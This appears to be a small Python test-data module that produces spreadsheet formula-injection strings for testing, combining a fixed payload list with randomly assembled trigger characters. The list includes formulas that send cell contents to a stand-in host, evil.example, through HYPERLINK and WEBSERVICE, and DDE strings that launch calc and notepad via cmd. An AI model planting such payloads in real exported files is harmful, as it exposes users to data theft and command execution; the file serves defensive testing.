"""Texts that a spreadsheet may take for something else than a text."""

import random

SIGNS = [
    *"=+-@\t\r\n＝＋－＠",
    "'",
    '"',
    ";",
    ",",
    " ",
    "\n",
    "\\",
    "1",
    "a",
    "é",
    "ម",
    "Ж",
    "%",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    '=WEBSERVICE("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '="="',
    "'=1+1",
    "'''=1+1",
    "%0A=1",
]


def payloads(number: int) -> list[str]:
    """The known formulas, and texts by chance of the signs that matter."""
    chance = random.Random(9)
    made = list(FORMULAS)
    while len(made) < number:
        made.append("".join(chance.choices(SIGNS, k=chance.randint(1, 12))))
    return made
